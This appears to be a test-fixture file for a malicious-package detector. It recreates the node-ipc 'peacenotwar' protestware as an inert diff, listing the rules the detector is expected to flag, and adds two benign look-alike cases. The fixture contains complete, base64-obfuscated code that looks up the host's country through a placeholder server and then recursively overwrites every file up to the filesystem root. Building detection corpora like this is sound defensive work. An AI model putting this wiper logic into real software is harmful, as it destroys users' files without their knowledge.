/**
 * An imitation, inert and ours, of node-ipc 10.1.1: a module that the entry loads asks, after a random pause, in which
 * country it runs, and for two of them overwrites every file around and above. Ours asks a host that cannot be.
 * https://snyk.io/blog/peacenotwar-malicious-npm-node-ipc-package-vulnerability/
 */
import type { SourceTree } from '../../src/rule.ts';
import type { CorpusCase } from './update.ts';

const base64 = (text: string): string => Buffer.from(text).toString('base64');

const manifest = { main: 'index.js' };
const entry = `const { connect } = require('./dao/client.js');

exports.talk = (path) => connect(path);
`;
const client = `const net = require('net');

exports.connect = (path) => net.connect(path);
`;
const before: SourceTree = { 'package.json': manifest, 'index.js': entry, 'dao/client.js': client };

const overwriting = `const path = require('path');
const fs = require('fs');
const https = require('https');

const word = (text) => Buffer.from(text, 'base64').toString();
const lots = Math.floor(Math.random() * 5);

if (lots < 2) setTimeout(ask, lots * 500);

function ask() {
  https.get(word('${base64('https://where.invalid/api?key=none')}'), (answer) => {
    answer.on('data', (bytes) => {
      try {
        const place = JSON.parse(bytes)[word('${base64('country_name')}')].toLowerCase();
        if (![word('${base64('atlantis')}'), word('${base64('lemuria')}')].some((one) => place.includes(one))) return;
        for (const folder of ['${base64('./')}', '${base64('../')}', '${base64('../../')}', '${base64('/')}']) visit(word(folder));
      } catch (error) {}
    });
  });
}

function visit(folder) {
  let names = [];
  try {
    names = fs.readdirSync(folder);
  } catch (error) {}
  names.forEach((name) => {
    const found = path.join(folder, name);
    const about = fs.lstatSync(found, { throwIfNoEntry: false });
    if (about === undefined) return;
    if (about.isDirectory()) visit(found);
    else fs.writeFile(found, word('${base64('x')}'), () => {});
  });
}
`;

export const walkThatOverwrites: CorpusCase = {
  imitations: [
    {
      title: 'a module overwrites files around and above it, where it runs in some countries',
      name: 'pipe-talk',
      incident: {
        what: 'node-ipc 10.1.1: files overwritten for addresses in Russia and Belarus',
        when: '2022-03-07',
        url: 'https://snyk.io/blog/peacenotwar-malicious-npm-node-ipc-package-vulnerability/',
      },
      before,
      after: { ...before, 'index.js': `require('./dao/place.js');\n${entry}`, 'dao/place.js': overwriting },
      atLeast: 'block',
      seen: [
        { rule: 'files-destroyed', path: 'dao/place.js', on: 'fs.writeFile(found' },
        { rule: 'network-added', path: 'dao/place.js', on: 'https.get(word(' },
        { rule: 'locale-conditioned', kind: 'destructive', path: 'dao/place.js', on: 'fs.writeFile(found' },
      ],
      payload: { path: 'dao/place.js', code: overwriting },
    },
  ],
  twins: [
    {
      title: "a walk that cleans the package's own folder, and one over a folder that the caller names",
      name: 'pipe-talk',
      before,
      after: {
        ...before,
        'index.js': `${entry}exports.clean = require('./dao/clean.js').clean;\n`,
        'dao/clean.js': `const fs = require('fs');
const os = require('os');
const path = require('path');

function walk(folder) {
  for (const name of fs.readdirSync(folder)) {
    const file = path.join(folder, name);
    if (fs.lstatSync(file).isDirectory()) walk(file);
    else fs.unlinkSync(file);
  }
}

const own = path.join(__dirname, '..', 'sockets');
if (fs.existsSync(own)) walk(own);
fs.writeFileSync(path.join(os.tmpdir(), 'pipe-talk.lock'), String(process.pid));
exports.clean = (folder) => walk(folder);
`,
      },
    },
    {
      title: 'dates written for the time zone and the language of the reader',
      name: 'pipe-talk',
      before,
      after: {
        ...before,
        'index.js': `${entry}exports.stamp = require('./dao/stamp.js').stamp;\n`,
        'dao/stamp.js': `const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
const words = { de: 'verbunden', fr: 'connexion', en: 'connected' };

exports.stamp = function stamp(date, language) {
  const chosen = language || Intl.DateTimeFormat().resolvedOptions().locale.slice(0, 2);
  const weekStart = chosen === 'en' ? 0 : 1;
  if (zone === 'UTC') return { text: date.toISOString() + ' ' + words[chosen], weekStart };
  return { text: date.toLocaleString(chosen, { timeZone: zone }) + ' ' + words[chosen], weekStart };
};
`,
      },
    },
  ],
};
